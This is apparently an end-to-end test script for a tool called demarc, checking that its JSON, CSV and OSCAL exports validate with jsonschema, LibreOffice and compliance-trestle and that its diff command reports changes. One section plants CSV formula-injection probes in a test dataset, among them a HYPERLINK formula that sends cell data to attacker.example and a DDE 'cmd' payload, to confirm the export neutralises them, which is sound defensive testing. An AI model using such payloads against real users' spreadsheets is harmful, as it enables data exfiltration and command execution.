"""End-to-end checks of `demarc export` and `demarc diff` with third-party validators.

Usage: export_check.py DEMARC_BINARY REPOSITORY WORK_FOLDER

Every check prints one line; the script exits 1 if any failed. Nothing here trusts demarc's own
reading of its files: the JSON is checked by jsonschema, the OSCAL by compliance-trestle, the CSV by
Python's csv module and by LibreOffice.
"""

import copy
import csv
import io
import json
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

DEMARC, REPO, WORK = Path(sys.argv[1]), Path(sys.argv[2]), Path(sys.argv[3])
failures = []


def check(name, ok, detail=""):
    print(("ok   " if ok else "FAIL ") + name + (f": {detail}" if detail and not ok else ""))
    if not ok:
        failures.append(name)


def demarc(*args, site=None, expect=0):
    command = [str(DEMARC), *args] + (["--site", str(site)] if site else [])
    # Bytes, decoded by hand: text mode would turn the CSV's CRLF into LF before it is checked.
    result = subprocess.run(command, capture_output=True)
    result.stdout, result.stderr = result.stdout.decode(), result.stderr.decode()
    if result.returncode != expect:
        raise SystemExit(f"{' '.join(command)} exited {result.returncode}: {result.stderr}")
    return result


def copy_site(name):
    site = WORK / name
    shutil.copytree(REPO / "Content", site / "Content")
    if (REPO / "demarc.yaml").exists():
        shutil.copy(REPO / "demarc.yaml", site / "demarc.yaml")
    return site


# --- JSON and its schema --------------------------------------------------------------------------
import jsonschema  # noqa: E402

site = copy_site("shipped")
exports = {fmt: demarc("export", "--format", fmt, site=site).stdout for fmt in
           ["json", "schema", "csv", "crm", "oscal", "catalog"]}
schema = json.loads(exports["schema"])
document = json.loads(exports["json"])
jsonschema.Draft202012Validator.check_schema(schema)
validator = jsonschema.Draft202012Validator(schema)
errors = list(validator.iter_errors(document))
check("the JSON export validates against its published schema", not errors,
      "; ".join(e.message for e in errors[:3]))
check("the JSON carries provenance", document["provenance"]["format"] == "demarc-dataset"
      and document["provenance"]["generator"].startswith("demarc-output-")
      and document["provenance"]["schema_version"] == document["model"]["schema_version"])

broken = []
bad = copy.deepcopy(document); bad["services"][0]["colour"] = "red"; broken.append(("an unknown key", bad))
bad = copy.deepcopy(document); bad["class_cells"][0]["layers"]["data"]["owner"] = "nobody"; broken.append(("an unknown owner", bad))
bad = copy.deepcopy(document); bad["controls"][0]["sources"] = ["Seed 2, line 4"]; broken.append(("a malformed citation", bad))
bad = copy.deepcopy(document); del bad["model"]; broken.append(("no model", bad))
for what, doc in broken:
    check(f"the schema refuses {what}", not validator.is_valid(doc))

built = site / "Output"
demarc("build", "--output", str(built), site=site)
for fmt, name in [("json", "demarc-dataset.json"), ("csv", "demarc-responsibilities.csv"),
                  ("crm", "demarc-customer-responsibility-matrix.csv"),
                  ("oscal", "demarc-components.oscal.json")]:
    check(f"build writes the same {fmt} as export", (built / "data" / name).read_bytes().decode() == exports[fmt])
check("the Downloads page links every export",
      all(f'href="../data/{p.name}"' in (built / "reference/downloads.html").read_text()
          for p in (built / "data").iterdir()))

# Export, import, export: the same file (rule I18).
json_site = WORK / "from-json"
shutil.copytree(site / "Content", json_site / "Content", ignore=shutil.ignore_patterns("data"))
(json_site / "Content/data").mkdir()
(json_site / "Content/data/demarc-dataset.json").write_text(exports["json"])
check("export → import → export gives the same JSON",
      demarc("export", "--format", "json", site=json_site).stdout == exports["json"])

# --- CSV: Python's reader, then LibreOffice ------------------------------------------------------
rows = list(csv.reader(io.StringIO(exports["csv"], newline="")))
header, body = rows[0], rows[1:]
cells = {(c["class"], kind, target): cell for c in document["class_cells"] for kind in ["layers", "controls"]
         for target, cell in c.get(kind, {}).items()}
mismatches = 0
for row in body:
    record = dict(zip(header, row))
    if record["subject_kind"] != "class":
        continue
    cell = cells[(record["subject_id"], record["target_kind"] + "s", record["target_id"])]
    if (record["owner"], record["customer_note"], record["confidence"]) != (
            cell["owner"], cell.get("customer", ""), cell["confidence"]):
        mismatches += 1
check("every class row of the CSV is the JSON's cell", mismatches == 0 and len(body) > 100, f"{mismatches} differ")
check("the CSV uses CRLF line ends", exports["csv"].count("\r\n") == len(rows))
check("two exports are byte-identical", demarc("export", "--format", "csv", site=site).stdout == exports["csv"])


def xlsx_cells(path):
    """Every cell of the first sheet as text, and whether any holds a formula."""
    with zipfile.ZipFile(path) as book:
        shared = []
        if "xl/sharedStrings.xml" in book.namelist():
            xml = book.read("xl/sharedStrings.xml").decode()
            for item in re.findall(r"<si>(.*?)</si>", xml, re.S):
                shared.append("".join(re.findall(r"<t[^>]*>(.*?)</t>", item, re.S)))
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    has_formula = "<f>" in sheet or "<f " in sheet
    table = []
    for row in re.findall(r"<row[^>]*>(.*?)</row>", sheet, re.S):
        values = []
        for attrs, inner in re.findall(r"<c ([^>]*?)(?:/>|>(.*?)</c>)", row, re.S):
            column = re.search(r'r="([A-Z]+)\d+"', attrs).group(1)
            index = 0
            for letter in column:
                index = index * 26 + ord(letter) - 64
            while len(values) < index - 1:
                values.append("")
            value = re.search(r"<v>(.*?)</v>", inner or "", re.S)
            text = value.group(1) if value else ""
            if 't="s"' in attrs:
                text = shared[int(text)]
            values.append(text)
        table.append(values)
    unescape = lambda s: s.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&apos;", "'").replace("&amp;", "&")
    return [[unescape(v) for v in r] for r in table], has_formula


def through_libreoffice(name, text, as_text=True):
    folder = WORK / ("lo-" + name)
    folder.mkdir()
    source = folder / (name + ".csv")
    source.write_text(text, newline="")
    # Filter options: comma, double quote, UTF-8, first line 1, every column text (format 2), so
    # LibreOffice keeps "007" and dates as written; formulas are what the probe is about.
    # With as_text=False, LibreOffice's defaults: standard columns, formulas evaluated, as a
    # spreadsheet user who double-clicks the file gets them.
    columns = "/".join(f"{i}/2" for i in range(1, 30)) if as_text else ""
    subprocess.run(["soffice", "--headless", "--norestore", f"-env:UserInstallation=file://{WORK}/lo-profile",
                    "--infilter=CSV:44,34,76,1" + ("," + columns if columns else ""), "--convert-to", "xlsx", "--outdir", str(folder),
                    str(source)], check=True, capture_output=True, timeout=180)
    return xlsx_cells(folder / (name + ".xlsx"))


for fmt in ["csv", "crm"]:
    expected = list(csv.reader(io.StringIO(exports[fmt], newline="")))
    table, has_formula = through_libreoffice(fmt, exports[fmt])
    table = [r + [""] * (len(expected[0]) - len(r)) for r in table]
    differing = [i for i, (a, b) in enumerate(zip(expected, table)) if a != b]
    check(f"LibreOffice reads the {fmt} export back cell by cell",
          len(table) == len(expected) and not differing, f"{len(table)} rows vs {len(expected)}; rows {differing[:3]}")
    check(f"LibreOffice finds no formula in the {fmt} export", not has_formula)

# A hostile dataset: notes that are formulas. They must arrive as text, never as formulas.
hostile = copy_site("hostile")
probes = ['=HYPERLINK("http://attacker.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
target = hostile / "Content/data/classes/infrastructure.yaml"
text = target.read_text()
notes = re.findall(r"^    customer: (.+)$", text, re.M)
for probe, note in zip(probes, notes):
    text = text.replace("    customer: " + note, "    customer: " + json.dumps(probe), 1)
target.write_text(text)
hostile_csv = demarc("export", "--format", "csv", site=hostile).stdout
table, has_formula = through_libreoffice("hostile", hostile_csv, as_text=False)
flat = [v for r in table for v in r]
check("the formula probes reach the CSV neutralised", all(("'" + p) in flat for p in probes),
      str([p for p in probes if ("'" + p) not in flat]))
check("LibreOffice finds no formula in the hostile CSV", not has_formula)

# --- OSCAL: compliance-trestle ---------------------------------------------------------------------
workspace = WORK / "trestle"
workspace.mkdir()
subprocess.run(["trestle", "init"], cwd=workspace, check=True, capture_output=True)
(workspace / "component-definitions/demarc").mkdir(parents=True)
(workspace / "catalogs/demarc").mkdir(parents=True)
(workspace / "component-definitions/demarc/component-definition.json").write_text(exports["oscal"])
(workspace / "catalogs/demarc/catalog.json").write_text(exports["catalog"])
result = subprocess.run(["trestle", "validate", "-a"], cwd=workspace, capture_output=True, text=True)
report = result.stdout + result.stderr
print("     trestle: " + " | ".join(line.strip() for line in report.splitlines() if line.strip()))
check("compliance-trestle validates the component definition and the catalog",
      result.returncode == 0 and report.count("VALID: Model") == 2 and "INVALID" not in report, report[-400:])
definition = json.loads(exports["oscal"])["component-definition"]
uuids = re.findall(r'"uuid": "([0-9a-f-]{36})"', exports["oscal"])
check("every OSCAL UUID is a unique version 5 UUID", len(uuids) == len(set(uuids)) and all(u[14] == "5" for u in uuids))
check("one OSCAL component per service", len(definition["components"]) == len(document["services"]))
props = re.findall(r'\{\s*"name": "[^"]+",\s*"(ns|value)"', exports["oscal"])
check("every OSCAL prop carries demarc's namespace", props and all(p == "ns" for p in props))

# --- demarc diff -------------------------------------------------------------------------------------
(WORK / "old.json").write_text(exports["json"])
changed = json.loads(exports["json"])
changed["class_cells"][1]["layers"]["applications"]["confidence"] = "inferred"
(WORK / "new.json").write_text(json.dumps(changed, indent=2))
same = demarc("diff", str(WORK / "old.json"), str(WORK / "old.json"), "--exit-code")
moved = demarc("diff", str(WORK / "old.json"), str(WORK / "new.json"), "--format", "json", "--exit-code", expect=1)
report = json.loads(moved.stdout)
check("demarc diff reports the edited cell and what it reaches",
      any(c["field"] == "confidence" and c["target"] == "layer/applications" for c in report["changes"])
      and same.stdout.startswith("No changes"))

print(f"{len(failures)} of the export checks failed" if failures else "every export check passed")
sys.exit(1 if failures else 0)
